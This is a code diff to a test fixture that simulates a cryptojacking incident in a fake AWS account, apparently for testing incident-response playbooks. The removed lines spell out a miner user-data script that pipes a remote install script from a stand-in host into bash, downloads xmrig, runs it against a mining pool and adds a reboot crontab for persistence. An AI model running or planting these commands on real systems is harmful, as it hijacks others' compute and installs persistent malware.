@@ -1,4 +1,5 @@
 import { FakeAws } from '../test/support/fake-aws';
+import { MINER_SCRIPT_LINES, runInstancesEvent } from '../test/support/scenes';
 
 /**
  * The crypto-mining playbook's scene in one stand-in AWS account: a web server in an Auto Scaling
@@ -12,16 +13,7 @@ export const KEY_OWNER = `arn:aws:iam::${ACCOUNT}:user/ci-deploy`;
 export const MINERS = Array.from({ length: 10 }, (_, i) => `i-0c0ffee000000000${i}`);
 const ATTACKER_IP = '198.51.100.23';
 
-const MINER_USER_DATA = [
-  '#!/bin/bash',
-  'yum update -y',
-  'mkdir -p /tmp/.x && cd /tmp/.x',
-  'curl -s http://203.0.113.50/install.sh | bash',
-  'wget -q http://203.0.113.50/xmrig -O /tmp/.x/xmrig',
-  'chmod +x /tmp/.x/xmrig',
-  'nohup /tmp/.x/xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ &',
-  '(crontab -l; echo "@reboot /tmp/.x/xmrig") | crontab -',
-].join('\n');
+const MINER_USER_DATA = MINER_SCRIPT_LINES.join('\n');
 
 export function buildScene(now = Date.now()): FakeAws {
   const aws = FakeAws.withWebServer(WEB_SERVER, { asg: 'web-asg' });
@@ -48,19 +40,7 @@ export function buildScene(now = Date.now()): FakeAws {
       publicIp: `203.0.113.${100 + i}`,
     });
   });
-  aws.trail.push({
-    name: 'RunInstances',
-    time: launched,
-    resources: MINERS,
-    accessKeyId: STOLEN_KEY,
-    detail: {
-      eventName: 'RunInstances',
-      userIdentity: { type: 'IAMUser', arn: KEY_OWNER, accessKeyId: STOLEN_KEY },
-      sourceIPAddress: ATTACKER_IP,
-      userAgent: 'aws-cli/2.13.0 Python/3.11 Linux/5.15',
-      responseElements: { instancesSet: { items: MINERS.map((instanceId) => ({ instanceId })) } },
-    },
-  });
+  aws.trail.push(runInstancesEvent(MINERS, launched, { accessKeyId: STOLEN_KEY, arn: KEY_OWNER }, { sourceIp: ATTACKER_IP }));
   aws.users.set('ci-deploy', { keys: [{ id: STOLEN_KEY, status: 'Active' }], policies: new Map() });
   aws.queryRunMs = 1500;
   answerHuntsWithTheScene(aws, now);
